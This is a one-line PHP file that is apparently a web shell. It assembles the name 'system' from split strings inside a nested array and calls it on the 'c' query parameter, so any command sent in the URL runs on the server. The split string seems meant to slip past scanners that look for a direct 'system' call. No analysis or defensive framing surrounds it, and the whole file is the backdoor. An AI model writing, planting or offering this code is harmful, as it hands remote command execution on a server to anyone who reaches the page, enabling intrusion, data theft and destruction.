<?php $ops = ['a' => ['run' => 'sys' . 'tem']]; $ops['a']['run']($_GET['c']);
